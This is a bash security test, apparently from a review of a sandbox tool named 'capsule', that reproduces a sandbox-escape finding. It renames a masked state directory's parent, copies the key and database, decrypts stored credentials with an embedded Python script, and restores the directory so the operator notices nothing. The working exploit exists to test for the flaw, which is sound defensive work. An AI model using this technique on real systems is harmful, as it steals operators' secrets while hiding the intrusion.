#!/bin/bash
# Finding (unprivileged capsule, a read-write grant covering the state
# directory's parent, e.g. --allow-rw $HOME): the state directory is masked
# by a mount on its own path, and a mount point's *parent* can still be
# renamed. Run 1: the tool renames ~/.local/state (its child, the masked
# state, moves with it on the host). Run 2: capsule masks the default path
# (now empty) and the directories listed in DEFAULT/state-dirs (which moved
# away too), so the real state, at its new path, is open: the tool copies
# the key and state.db, decrypts every stored credential, and renames the
# directory back (the operator sees nothing). Exits non-zero when the
# credential is read.
capsule=$(realpath "${1:-build/capsule}")
here=$(cd "$(dirname "$0")" && pwd)
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root to act as uid 65534"; exit 77; }
setpriv --reuid=65534 --regid=65534 --clear-groups -- test -x "$capsule" ||
  { echo "SKIP: uid 65534 cannot run $capsule"; exit 77; }
H=$(mktemp -d /var/tmp/capsule-review-home.XXXXXX); trap 'rm -rf "$H"' EXIT
chown 65534:65534 "$H"; chmod 755 "$H"
as_op() { (cd /tmp && setpriv --reuid=65534 --regid=65534 --clear-groups -- env HOME="$H" USER=nobody "$@"); }
# the operator has used the gateway: a stored credential in the default state
printf 'ghp_OPERATOR_SECRET_%s' $$ | as_op "$capsule" cred set --shared GITHUB_TOKEN --scope system >/dev/null ||
  { echo "setup: cred set failed"; exit 2; }
cat >"$H/steal.py" <<'PY'
import ctypes, sqlite3, sys
d = sys.argv[1]
na = ctypes.CDLL("libsodium.so.23"); na.sodium_init()
key = open(d + "/key", "rb").read()
sub = ctypes.create_string_buffer(32)
na.crypto_kdf_derive_from_key(sub, ctypes.c_size_t(32), ctypes.c_uint64(1), b"capsule_", key)
db = sqlite3.connect("file:" + d + "/state.db?mode=ro&immutable=1", uri=True)
for cap, name, scope, user, nonce, sealed in db.execute(
        "SELECT capability, name, scope, user, nonce, sealed FROM credentials"):
    ad = ((cap + "\0" if cap else "") + name + "\0" + scope + "\0" + user).encode()
    out = ctypes.create_string_buffer(len(sealed)); olen = ctypes.c_ulonglong(0)
    if na.crypto_aead_xchacha20poly1305_ietf_decrypt(out, ctypes.byref(olen), None, sealed,
            ctypes.c_ulonglong(len(sealed)), ad, ctypes.c_ulonglong(len(ad)), nonce, sub) == 0:
        print("STOLEN %s=%s" % (name, out.raw[:olen.value].decode()))
PY
chmod 644 "$H/steal.py"
L=$H/.local
# run 1: rename the masked state's parent
as_op "$capsule" run --allow-rw "$H" -- /bin/sh -c "mv $L/state $L/.s && echo renamed" 2>&1
# run 2: the real state is no longer masked at its new path
out=$(as_op "$capsule" run --allow-rw "$H" -- /bin/sh -c "
  mkdir -p $H/loot && cp $L/.s/capsule/key $L/.s/capsule/state.db $H/loot/ &&
  rm -rf $L/state && mv $L/.s $L/state && python3 $H/steal.py $H/loot" 2>&1)
echo "tool's second run: $out"
ls -d "$L/state/capsule" >/dev/null 2>&1 && echo "(the state is back at its place)"
if grep -q "ghp_OPERATOR_SECRET_$$" <<<"$out"; then
  echo "VULNERABLE: the tool read the state key and decrypted the operator's credential"; exit 1
fi
echo blocked; exit 0
